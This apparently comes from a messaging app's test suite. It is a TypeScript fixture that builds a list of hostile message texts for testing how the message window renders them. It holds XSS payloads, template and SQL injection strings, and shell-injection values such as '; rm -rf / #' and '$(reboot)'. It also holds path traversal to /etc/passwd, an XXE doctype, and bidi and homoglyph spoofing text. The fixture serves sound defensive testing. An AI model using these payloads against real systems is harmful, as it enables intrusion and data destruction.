// Texts that somebody might send in order to break the window: markup, templates, direction, height, width, length.
import { MAX_TEXT_BYTES } from '../../protocol/content.ts';

const script = 'window.pwned=1;alert(1)';
const bytes = (text: string): number => Buffer.byteLength(text);
/** As many of them as fit in a message. */
const filled = (unit: string): string => unit.repeat(Math.floor(MAX_TEXT_BYTES / bytes(unit)));
const range = (first: number, last: number): string[] =>
  Array.from({ length: last - first + 1 }, (_, i) => String.fromCodePoint(first + i));

const tags = [
  ...[
    '<script>X</script>',
    '<script src=//elsewhere.invalid/x.js></script>',
    '<SCRIPT>X</SCRIPT>',
    '<scr<script>ipt>X',
  ],
  ...[
    '<img src=x onerror=X>',
    '<img src="x" onerror="X">',
    "<img src='x' onerror='X'>",
    '<img/src=`x`/onerror=X>',
  ],
  ...[
    '<svg onload=X>',
    '<svg><script>X</script></svg>',
    '<svg><animate onbegin=X attributeName=x dur=1s>',
    '<svg/onload=X//',
  ],
  ...[
    '<body onload=X>',
    '<iframe src="javascript:X"></iframe>',
    '<iframe srcdoc="<script>X</script>">',
    '<object data="javascript:X">',
  ],
  ...[
    '<embed src="javascript:X">',
    '<math href="javascript:X">click</math>',
    '<a href="javascript:X">click</a>',
    '<link rel=import href=x>',
  ],
  ...[
    '<base href="https://elsewhere.invalid/">',
    '<form action=//elsewhere.invalid><button>go',
    '<details open ontoggle=X>',
    '<marquee onstart=X>',
  ],
  ...[
    '<input autofocus onfocus=X>',
    '<video><source onerror=X>',
    '<audio src=x onerror=X>',
    '<style>@import "//elsewhere.invalid";</style>',
  ],
  ...[
    '<style>*{display:none}</style>',
    '<div style="position:fixed;inset:0;background:red">',
    '<meta http-equiv=refresh content="0;url=//x">',
  ],
  ...[
    '"><img src=x onerror=X>',
    "'-X-'",
    '</p></div><script>X</script>',
    '<!--><img src=x onerror=X>-->',
    '<![CDATA[<script>X</script>]]>',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=X>">',
    '<template><script>X</script></template>',
    '<table><td background=javascript:X>',
  ],
  ...[
    '<textarea autofocus onfocus=X></textarea>',
    '<plaintext>',
    '<xmp><img src=x onerror=X></xmp>',
    '<slot name=x><img src=x onerror=X>',
  ],
].map((text) => text.replaceAll('X', script));

const entities = String.raw`
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3C;svg onload=alert(1)&#x3E;
&amp;lt;b&amp;gt;
&nbsp;&nbsp;&shy;&zwj;&rlm;
&
&&&&;
&#0;
&#xFFFFFFFF;
&unknown;
%3Cscript%3E
\u003cscript\u003e
`
  .trim()
  .split('\n');
const links = String.raw`
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
file:///etc/passwd
https://elsewhere.invalid/?q=<script>
signet://join?v=1
[click](javascript:alert(1))
![x](https://elsewhere.invalid/x.png)
https://еlsewhere.invalid
app://signet/../../package.json
`
  .trim()
  .split('\n');
links.push('java\tscript:alert(1)');
const templates = [
  ...[
    '{{ 7*7 }}',
    '{{constructor.constructor("alert(1)")()}}',
    '{{_openBlock.constructor("alert(1)")()}}',
    '${alert(1)}',
    '#{alert(1)}',
  ],
  ...[
    '<div v-html="1"></div>',
    '<p v-on:click="alert(1)" v-if="true">',
    '<component :is="\'script\'">',
    '@click="alert(1)"',
    ':href="1"',
    'v-text',
  ],
  ...[
    '<%= 7*7 %>',
    '{% raw %}',
    '[[ 7*7 ]]',
    '{{{{{{',
    '}}}}',
    '<slot/>',
    '<Teleport to="body">x</Teleport>',
    '`${{}}`',
  ],
];
const bidi = [
  ...[...range(0x202a, 0x202e), ...range(0x2066, 0x2069), '\u200e', '\u200f', '\u061c'].map(
    (mark) => `from ${mark}here to there`,
  ),
  ...[
    '\u202Egnp.exe',
    `${'\u202e'.repeat(500)}reversed`,
    `${'\u2067'.repeat(200)}isolated`,
    'user\u202e)moc.live(@',
    '\u202eabc\u202c def',
  ],
  ...[
    'שלום <b>abc</b> 123 (1) - !',
    'مرحبا بالعالم 123 abc',
    'abc אבג def דהו 12:34',
    `${'\u2066\u2067'.repeat(300)}x`,
    '\u202dabc\u202e',
  ],
];
const stacked = (mark: string, count: number): string =>
  [...'zalgo'].map((letter) => letter + mark.repeat(count)).join('');
const marks = [
  ...['\u0300', '\u0316', '\u0489', '\u20dd', '\u0334', '\u1dd2', '\u0e47', '\u0360'].map((mark) =>
    stacked(mark, 80),
  ),
  ...[
    stacked('\u0352\u0353', 400),
    `e${'\u0301'.repeat(3000)}`,
    '\u0301 begins with a mark',
    '\u0e33'.repeat(200),
    'ส็็็็็็็็็็็็็็็็็็็็็็็็็็็็็็',
  ],
  ...['◌'.repeat(100) + '\u0303'.repeat(900), `${'a\u0308\u0323'.repeat(900)}`, 'ก็็็็็็็็็็็็็็็็็็็็ กิิิิิิิิิิิิิิิิิิิิิิ', 'ཧ྅ྪྫྷྶྵ྾྿ྼྻྺྐྵ'.repeat(40)],
];
const unseen = [
  ...[
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u180e',
    '\u3164',
    '\u115f',
    '\u2800',
    '\ufe0f',
    '\u034f',
    '\u{e0001}',
  ].flatMap((one) => [`zero${one}width`, one.repeat(300)]),
  ...[
    '\ufeffBOM first',
    `${'\u200b'.repeat(5000)}far`,
    '\u{e0061}\u{e0062}\u{e007f}tagged',
    '\u2063\u2064invisible',
  ],
];
const controls = [
  ...range(0x00, 0x1f)
    .filter((one) => !'\t\n\r'.includes(one))
    .map((one) => `a${one}b`),
  ...[
    '\0\0\0',
    'a\0<script>',
    '\x1b[31mred\x1b[0m',
    '\x1b]0;title\x07',
    '\x7f\x80\x85\x9f',
    'a\u2028b\u2029c',
    '\r\n\r\nHTTP/1.1 200',
    'a\vb\fc',
  ],
  ...['\u2028'.repeat(300), '\u0085'.repeat(200), 'a\rb\rc', '\b\b\b\b'],
];
const surrogates = [
  '\ud800',
  'x\udc00y',
  '\udc00\ud800',
  `${'\ud83d'.repeat(50)}`,
  'ok \ud83d\ude00 broken \ud83d',
  '\uffff\ufffe',
  '\ufdd0',
];
const words = [
  ...[
    'x'.repeat(300),
    `a ${'W'.repeat(900)} b`,
    `short ${'i'.repeat(700)} ${'long '.repeat(90)}`,
    'https://elsewhere.invalid/' + 'a'.repeat(900),
  ],
  ...[
    '—'.repeat(400),
    '😀'.repeat(300),
    '_'.repeat(500),
    '/'.repeat(600),
    '\u00a0'.repeat(600),
    `a${'\u00a0'.repeat(300)}b`,
    '﷽'.repeat(120),
  ],
  ...[
    '𒐫'.repeat(120),
    '꧅'.repeat(90),
    '\t'.repeat(200),
    `a${'\t'.repeat(90)}b`,
    '　'.repeat(200),
    'ＷＷＷ'.repeat(100),
    '⸻'.repeat(60),
    'ௌ'.repeat(90),
  ],
];
const family = '👩🏽‍❤️‍💋‍👨🏿';
const joined = [
  family.repeat(30),
  '👨‍'.repeat(200),
  '🏳️‍⚧️🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '🇪'.repeat(99),
  '1️⃣'.repeat(90),
  '🏽'.repeat(90),
  `${'❤️\u200d'.repeat(400)}🔥`,
  '🫥🫠🫡',
  '👍',
];
const formats = [
  ...[
    '%s%s%s%n%n%x%d',
    '%c%c',
    '{0}{1}',
    '$1$&$`',
    '../../../../etc/passwd',
    'C:\\Windows\\System32',
    '; rm -rf / #',
    '`reboot`',
    '$(reboot)',
  ],
  ...[
    '{"type":"text","text":"x"}',
    '{"__proto__":{"polluted":1}}',
    '[object Object]',
    'null',
    'undefined',
    'NaN',
    'true',
    '0',
    '-0',
    '1e309',
    '[]',
    '{}',
  ],
  ...[
    `'; DROP TABLE messages; --`,
    `" OR ""="`,
    `Robert'); DROP TABLE students;--`,
    '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd">',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'Draft: not a draft',
    'You: not me',
    'аdmin раypal ѕcope',
    'ａｌｅｒｔ（１）',
    'İıſKÅ',
  ],
];
const long = [
  filled('x'),
  filled('\n'),
  filled('😀'),
  filled('a\n'),
  filled(`${family} `),
  filled('<b>'),
  filled('\u0301'),
  filled('\u202e'),
  filled('ab '),
];

/** As the one who gets a text sees it: what is not Unicode is replaced, and nothing else. */
export const asReceived = (text: string): string => text.toWellFormed();

const kinds = [
  ...[tags, entities, links, templates, bidi, marks, unseen, controls],
  ...[surrogates, words, joined, formats, long],
];
export const hostileTexts: string[] = kinds.flat();
export const oneOfEach: string[] = kinds.map((texts) => texts[0]!);
